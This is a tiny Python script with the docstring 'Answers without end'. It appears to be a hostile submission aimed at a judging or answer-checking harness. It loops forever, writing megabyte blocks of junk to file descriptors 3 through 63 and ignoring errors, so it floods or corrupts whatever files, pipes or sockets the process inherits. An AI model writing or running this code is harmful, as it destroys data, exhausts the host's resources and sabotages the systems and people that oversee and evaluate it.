"""Answers without end."""

import os

while True:
    for number in range(3, 64):
        try:
            os.write(number, b"x" * (1 << 20))
        except OSError:
            pass
